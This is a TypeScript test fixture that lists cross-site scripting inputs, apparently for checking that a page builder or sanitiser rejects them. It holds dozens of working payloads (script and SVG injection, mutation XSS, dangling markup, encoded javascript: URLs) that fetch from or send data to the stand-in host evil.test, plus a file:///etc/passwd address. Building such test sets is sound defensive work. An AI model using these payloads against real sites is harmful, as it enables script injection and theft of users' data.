/** Where stolen things would be sent, and what a script that ran would leave behind. Nothing answers there. */
export const EVIL = "http://evil.test";
const RUN = `globalThis.stolen=1;document.documentElement.setAttribute('data-stolen','1');fetch('${EVIL}/ran');alert(1)`;

/**
 * Markup that runs a script, or asks for something, where a page is built by joining strings or by `innerHTML`: the
 * classes of the known cheat sheets (OWASP, PortSwigger), of mutation XSS (Heiderich et al., CCS 2013) and of dangling
 * markup.
 */
export const markup: Record<string, string> = {
  script: `<script>${RUN}</script>`,
  "script in SVG": `<svg><script>${RUN}</script></svg>`,
  "image error": `<img src="${EVIL}/x.png" onerror="${RUN}">`,
  "image error without quotes": `<img src=x onerror=globalThis.stolen=1>`,
  "broken tag": `<<img src=x onerror="${RUN}">//`,
  "svg load": `<svg onload="${RUN}"></svg>`,
  "svg animation": `<svg><animate onbegin="${RUN}" attributeName=x dur=1s></svg>`,
  "svg link": `<svg><a xlink:href="javascript:${RUN}"><text x="20" y="20">more</text></a></svg>`,
  "svg use": `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>${RUN}</script></svg>#x"></use></svg>`,
  "svg foreign object": `<svg><foreignObject><body onload="${RUN}"></body></foreignObject></svg>`,
  "mathml link": `<math><maction actiontype="statusline#${EVIL}" xlink:href="javascript:${RUN}">click</maction></math>`,
  "mutation through mathml": `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=globalThis.stolen=1&gt;"></table></mtext></math>`,
  "mutation through form": `<form><math><mtext></form><form><mglyph><style></math><img src onerror="${RUN}">`,
  "mutation through noscript": `<noscript><p title="</noscript><img src=x onerror=globalThis.stolen=1>"></p></noscript>`,
  "mutation through template": `<template><p title="</template><img src=x onerror=globalThis.stolen=1>"></p></template>`,
  "mutation through xmp": `<xmp><p title="</xmp><svg/onload=globalThis.stolen=1>"></p></xmp>`,
  "mutation through back-ticks": "<img src=`x``onerror=globalThis.stolen=1`>",
  "declarative shadow root": `<div><template shadowrootmode="open"><img src=x onerror="${RUN}"><p>shadow</p></template></div>`,
  frame: `<iframe src="javascript:parent.stolen=1"></iframe>`,
  "frame with a document": `<iframe srcdoc="&lt;script&gt;parent.stolen=1&lt;/script&gt;"></iframe>`,
  object: `<object data="javascript:${RUN}"></object>`,
  embed: `<embed src="data:text/html,<script>${RUN}</script>">`,
  details: `<details open ontoggle="${RUN}"><summary>More</summary>hidden</details>`,
  "focus by itself": `<input autofocus onfocus="${RUN}">`,
  "video source": `<video><source onerror="${RUN}" src="${EVIL}/v.mp4"></video>`,
  "audio by itself": `<audio autoplay src="${EVIL}/a.mp3" onloadstart="${RUN}"></audio>`,
  marquee: `<marquee onstart="${RUN}">news</marquee>`,
  "style import": `<style>@import url("${EVIL}/steal.css"); body{background:url("${EVIL}/b.png")}</style>`,
  "style attribute": `<p style="background:url(${EVIL}/p.png);position:fixed;inset:0;z-index:2147483647">over all</p>`,
  "style sheet": `<link rel="stylesheet" href="${EVIL}/steal.css">`,
  preload: `<link rel="preload" as="image" href="${EVIL}/pre.png"><link rel="dns-prefetch" href="//evil.test">`,
  base: `<base href="${EVIL}/"><a href="steal">read on</a>`,
  refresh: `<meta http-equiv="refresh" content="60;url=javascript:${RUN}">`,
  "form to elsewhere": `<form action="${EVIL}/steal"><button formaction="javascript:${RUN}">Read on</button></form>`,
  "dangling image": `<img src='${EVIL}/?`,
  "dangling text area": `<form action="${EVIL}"><input type=submit><textarea>`,
  "comment end": `--><script>${RUN}</script><!--`,
  "title end": `</title></style></textarea></script><script>${RUN}</script>`,
  "event on body": `<body onload="${RUN}" onpageshow="${RUN}">`,
  "import map": `<script type="importmap">{"imports":{"preact":"${EVIL}/preact.js"}}</script>`,
  "null in a tag": `<scr\u0000ipt>${RUN}</scr\u0000ipt><img src=x on\u0000error=globalThis.stolen=1>`,
  "half-width letters": `＜script＞${RUN}＜/script＞`,
  "template words": `{{constructor.constructor('globalThis.stolen=1')()}} \${globalThis.stolen=1} <%= 7*7 %> #{7*7}`,
  "message placeholders": `$1 $2 $$ __MSG_name__ $TITLE$ %s %1$s {0}`,
};

/** Addresses that must never become a link, a picture or an address to go to. */
export const addresses: Record<string, string> = {
  javascript: `javascript:${RUN}`,
  "javascript in odd case": `JaVaScRiPt:${RUN}`,
  "javascript with white space": `&#9;java&#10;script&#13;:${RUN}`,
  "javascript behind controls": `&#1;&#31;javascript:${RUN}`,
  "javascript with entities": `&#106;&#x61;vascript&colon;${RUN}`,
  "data document": `data:text/html,<script>${RUN}</script>`.replaceAll("<", "&lt;"),
  "data SVG": `data:image/svg+xml,&lt;svg xmlns='http://www.w3.org/2000/svg' onload='${RUN}'/&gt;`,
  vbscript: "vbscript:msgbox(1)",
  file: "file:///etc/passwd",
  "another extension": "chrome-extension://aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa/popup/index.html",
  "the browser itself": "about:config",
  blob: "blob:http://article.test/0b5c6d8e-0000-4000-8000-000000000000",
  "with a password": "http://user:secret@evil.test/",
  "not an address": "http://[::1/%zz",
};
